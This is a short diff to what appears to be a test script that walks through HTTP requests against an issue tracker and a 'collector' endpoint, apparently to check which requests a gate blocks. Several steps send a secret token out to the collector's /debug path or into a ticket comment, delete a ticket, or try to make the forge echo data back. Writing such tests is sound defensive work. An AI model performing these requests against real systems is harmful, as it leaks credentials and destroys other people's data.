@@ -27,7 +27,7 @@ def ask(what, method, url, body=None):
 ask("read ticket 4711", "GET", forge + "/issues/4711")
 print(f"{'the token it has':<24} {token[:8]}... ({len(token)} characters)", flush=True)
 ask("POST it to the collector", "POST", collector + "/debug", token.encode())
-ask("put it into a comment", "POST", forge + "/issues/4711/comments", token.encode())
+ask("post what it has there", "POST", forge + "/issues/4711/comments", token.encode())
 ask("delete the ticket", "DELETE", forge + "/issues/4711")
 ask("have the forge repeat it", "GET", forge + "/issues/0")
 ask("honest work: a comment", "POST", forge + "/issues/4711/comments", b"an index is missing")
